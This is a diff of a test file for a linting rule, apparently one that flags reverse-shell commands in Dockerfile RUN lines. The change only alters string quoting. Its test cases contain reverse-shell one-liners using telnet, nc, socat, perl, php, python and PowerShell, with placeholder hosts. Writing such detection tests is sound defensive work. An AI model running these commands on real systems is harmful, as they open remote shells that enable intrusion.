@@ -21,8 +21,8 @@ testRule(rule, {
     { code: 'FROM a:1\nRUN telnet h 1 | sh | telnet h 2\n', at: 'sh' },
     { code: 'FROM a:1\nRUN nc h 1 | bash\n', at: 'bash', fixed: 'FROM a:1\n' },
     { code: "FROM a:1\nRUN socat tcp:h:1 exec:'bash -li',pty\n", at: "exec:'bash -li',pty" },
-    { code: "FROM a:1\nRUN perl -e 'use Socket;socket(S,1,2,3);exec(\"/bin/sh -i\");'\n", at: 'perl' },
-    { code: "FROM a:1\nRUN php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3\");'\n", at: 'php' },
+    { code: 'FROM a:1\nRUN perl -e \'use Socket;socket(S,1,2,3);exec("/bin/sh -i");\'\n', at: 'perl' },
+    { code: 'FROM a:1\nRUN php -r \'$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3");\'\n', at: 'php' },
     { code: 'FROM a:1\nRUN python - <<E\nimport socket, subprocess\nsubprocess.call(["/bin/sh"])\nE\n', at: 'python' },
     {
       code: '# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL ["powershell"]\nRUN $c = New-Object Net.Sockets.TCPClient("h",1); iex $d\n',
